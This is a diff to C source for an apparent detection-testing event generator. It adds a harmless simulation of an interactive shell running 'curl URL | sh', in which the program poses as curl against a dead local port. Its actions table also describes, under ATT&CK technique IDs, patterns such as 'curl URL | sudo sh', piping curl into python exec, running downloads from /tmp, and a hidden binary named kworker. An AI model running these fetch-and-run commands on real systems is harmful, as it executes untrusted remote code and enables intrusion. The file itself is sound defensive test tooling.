@@ -753,6 +753,57 @@ static int pipeline_into(const char *reader)
 static int a_pipeline_sh(void) { return pipeline_into("/bin/sh"); }
 static int n_pipeline_sh(void) { return pipeline_into("/bin/cat"); }
 
+/* The same pipeline with the reader executed first (a race the shell often
+ * wins): the leader is a fork that waits for the reader's exec, then runs
+ * a copy named curl that sleeps a second with its stdout on the pipe; the
+ * reader (in the leader's group) reads it until the copy exits. */
+static int pipeline_first(const char *reader)
+{
+	char path[64], go = 0;
+	char *lead[] = { path, (char *)"-fsSL", (char *)"http://127.0.0.1:9/x.sh", NULL };
+	char *rd[] = { (char *)reader, NULL };
+	int p[2], sync[2];
+	pid_t leader, kid;
+
+	mkdir(FAKEDIR, 0700);
+	snprintf(path, sizeof(path), FAKEDIR "/curl");
+	unlink(path);
+	if (symlink(self_exe, path) || pipe2(p, O_CLOEXEC) || pipe2(sync, O_CLOEXEC))
+		return -1;
+	leader = fork();
+	if (leader == 0) {
+		setpgid(0, 0);
+		close(sync[1]);
+		if (read(sync[0], &go, 1) != 1)
+			_exit(1);
+		dup2(p[1], 1);
+		execve(path, lead, env_plus(SLEEP_ENV "=1"));
+		_exit(127);
+	}
+	setpgid(leader, leader);
+	kid = fork();
+	if (kid == 0) {
+		setpgid(0, leader);
+		dup2(p[0], 0);
+		execv(reader, rd);
+		_exit(127);
+	}
+	close(p[0]);
+	close(p[1]);
+	usleep(300000);
+	if (write(sync[1], &go, 1) != 1)
+		kill(leader, SIGKILL);
+	close(sync[0]);
+	close(sync[1]);
+	quiet_wait(leader);
+	quiet_wait(kid);
+	unlink(path);
+	rmdir(FAKEDIR);
+	return 0;
+}
+static int a_pipeline_sh_first(void) { return pipeline_first("/bin/sh"); }
+static int n_pipeline_sh_first(void) { return pipeline_first("/bin/cat"); }
+
 /* sh -c 'curl -o /tmp/x URL; cp ... /tmp/x; /tmp/x' (the copy a no-op) */
 static int dropper(bool run)
 {
@@ -1740,6 +1791,7 @@ static const struct action actions[] = {
 	{ "curl_python_stdin", "T1059.006", ANY, "Run downloaded script through interpreter", a_curl_python_stdin, n_curl_python_stdin, "curl URL | python3 -c 'import sys;exec(sys.stdin.read())' with a no-op curl" },
 	{ "curl_pipe_sudo", "T1059.004", HOST, "Run downloaded script through interpreter", a_curl_pipe_sudo, n_curl_pipe_sudo, "sh -c 'curl URL | sudo sh' with a no-op curl (needs sudo)" },
 	{ "pipeline_sh", "T1059.004", ANY, "Run downloaded script through interpreter", a_pipeline_sh, n_pipeline_sh, "an interactive shell's 'curl URL | sh': a copy named curl leads the process group, /bin/sh in it reads an empty pipe" },
+	{ "pipeline_sh_first", "T1059.004", ANY, "Run downloaded script through interpreter", a_pipeline_sh_first, n_pipeline_sh_first, "an interactive shell's 'curl URL | sh' with the shell executed first: /bin/sh waits on the pipe in the group of a fork that then runs a copy named curl writing to it" },
 	{ "downloaded_tmp_exec", "T1105", ANY, "Run binary downloaded to a temporary directory", a_downloaded_tmp_exec, n_downloaded_tmp_exec, "sh -c 'curl -o /tmp/saker-eventgen/upd URL; ...; /tmp/saker-eventgen/upd' (a no-op copy of itself)" },
 	{ "hidden_tmp_exec", "T1564.001", ANY, "Execution of hidden file in temporary directory", a_hidden_tmp_exec, n_hidden_tmp_exec, "copies itself to /tmp/saker-eventgen/.cache/kworker and runs it as a no-op" },
 	{ "bash_process_subst", "T1059.004", ANY, "Run downloaded script through interpreter", a_bash_process_subst, n_bash_process_subst, "bash -c 'bash <(curl URL)' with a no-op curl" },
